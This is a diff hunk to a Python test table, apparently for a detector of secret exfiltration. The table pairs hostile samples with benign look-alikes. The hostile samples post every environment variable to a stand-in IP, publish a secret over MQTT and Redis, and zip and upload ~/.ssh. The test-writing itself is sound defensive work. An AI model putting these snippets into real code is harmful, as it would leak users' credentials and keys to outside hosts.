@@ -238,6 +238,13 @@ CASES = (
     _sent("message queue", "import paho.mqtt.publish as p\np.single('t', SECRET, hostname='192.0.2.7')\n"),
     _sent("redis", "import redis\nredis.Redis('192.0.2.7').set('k', SECRET)\n"),
     evasion(
+        "to an address that a variable may change",
+        "import os, requests\nP = os.environ.get('EXAMPLE_PLACE', 'https://203.0.113.9/c')\n"
+        "def check():\n    requests.post(P, json=dict(os.environ))\n",
+        "import os, requests\nP = os.environ.get('EXAMPLE_PLACE', 'https://c.example.invalid/c')\n"
+        "def check():\n    requests.post(P, json={'ok': True})\n",
+    ),
+    evasion(
         "archive of keys uploaded",
         "import os, shutil, requests\np = shutil.make_archive('/tmp/k', 'zip', os.path.expanduser('~/.ssh'))\n"
         "requests.post('https://hook.example.invalid/', files={'f': open(p, 'rb')})\n",
